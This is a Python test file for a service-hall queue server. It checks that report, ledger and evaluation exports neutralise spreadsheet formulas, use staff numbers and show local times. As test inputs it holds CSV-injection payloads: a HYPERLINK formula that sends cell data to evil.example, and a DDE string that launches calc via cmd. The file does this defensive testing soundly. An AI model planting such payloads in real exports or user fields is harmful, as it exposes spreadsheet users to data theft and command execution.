"""Export cells: staff numbers (工号) instead of internal ids, hall-local times in the ledger,
and no spreadsheet formula from any text a person typed (CSV injection) in any export."""

import csv
import io

import pytest
from openpyxl import load_workbook

from queue_server.services import accounts
from queue_server.services.spreadsheet import local_time, safe_cell
from tests.api.counter_helpers import rate, serve_one
from tests.conftest import PASSWORD

STAFF_QUERY = "from=2026-03-02&to=2026-03-02&by=staff"
LEDGER = "/api/v1/halls/h1/followups/ledger?format=csv&from=2026-03-01&to=2026-03-31"
EVALUATIONS = "/api/v1/halls/h1/evaluations/export?format=csv&from=2026-03-01&to=2026-03-31"
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", ATTACK])
def test_a_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["态度差", "A001", "2026-03-02", 12, -3.5, 0, "", None])
def test_other_cells_are_kept(value):
    assert safe_cell(value) == ("" if value is None else value)


def test_local_time_drops_the_t_and_the_offset():
    assert local_time("2026-03-02T23:59:59+08:00") == "2026-03-02 23:59:59"


def _login(client, ctx, username, display_name, staff_no, windows=(1,)):
    accounts.add_user(ctx, username, PASSWORD, "staff", ctx.halls.get("h1").id, windows,
                      display_name, staff_no=staff_no)
    token = client.post("/api/v1/auth/token",
                        json={"username": username, "password": PASSWORD}).get_json()["token"]
    return {"Authorization": "Bearer " + token}


@pytest.fixture
def attacked(client, ctx, kiosk, accts):
    """A served visit by a clerk whose display name looks like a formula, rated with a
    formula as the citizen's comment (a bad review, so it is in the follow-up ledger)."""
    staff = _login(client, ctx, "clerk", "=cmd|' /C calc'!A0", "0101")
    evaluator = accts.device("evaluator", window=1)
    ticket = serve_one(client, kiosk, staff)
    assert rate(client, evaluator, ticket["id"], "very_dissatisfied", ATTACK).status_code == 201
    from queue_server.services import supervisor

    supervisor.run_once(ctx)  # opens the follow-up case of the bad review


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def _unsafe(cells) -> list:
    return [c for c in cells if isinstance(c, str) and c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_report_csv_carries_no_formula(client, manager, attacked):
    response = client.get(f"/api/v1/halls/h1/reports.csv?{STAFF_QUERY}", headers=manager)
    cells = _csv_cells(response.data)
    assert (_unsafe(cells), "'=cmd|' /C calc'!A0" in cells) == ([], True)


def test_report_excel_carries_no_formula(client, manager, attacked):
    response = client.get(f"/api/v1/halls/h1/reports.xlsx?{STAFF_QUERY}", headers=manager)
    book = load_workbook(io.BytesIO(response.data))
    cells = [c.value for sheet in book for row in sheet.iter_rows() for c in row]
    assert (_unsafe(cells), "'=cmd|' /C calc'!A0" in cells) == ([], True)


def test_evaluation_csv_neutralises_the_citizens_comment(client, manager, attacked):
    cells = _csv_cells(client.get(EVALUATIONS, headers=manager).data)
    assert (_unsafe(cells), "'" + ATTACK in cells) == ([], True)


def test_ledger_csv_neutralises_the_citizens_comment(client, manager, attacked):
    cells = _csv_cells(client.get(LEDGER, headers=manager).data)
    assert (_unsafe(cells), "'" + ATTACK in cells) == ([], True)


def test_ledger_csv_times_are_the_halls_local_time(client, manager, attacked):
    rows = list(csv.reader(io.StringIO(client.get(LEDGER, headers=manager).data
                                       .decode("utf-8-sig"))))
    opened = rows[1][rows[0].index("差评时间")]
    assert opened == "2026-03-02 10:00:00"  # the fake clock: 02:00 UTC = 10:00 in Shanghai


def test_staff_report_code_column_is_the_staff_number(client, ctx, manager, attacked):
    response = client.get(f"/api/v1/halls/h1/reports.xlsx?{STAFF_QUERY}", headers=manager)
    sheet = load_workbook(io.BytesIO(response.data))["报表"]
    assert [sheet.cell(row=r, column=1).value for r in (2, 3)] == ["工号", "0101"]


def test_staff_report_rows_carry_the_staff_number(client, manager, attacked):
    body = client.get(f"/api/v1/halls/h1/reports?{STAFF_QUERY}", headers=manager).get_json()
    assert [r["staff_no"] for r in body["rows"]] == ["0101"]
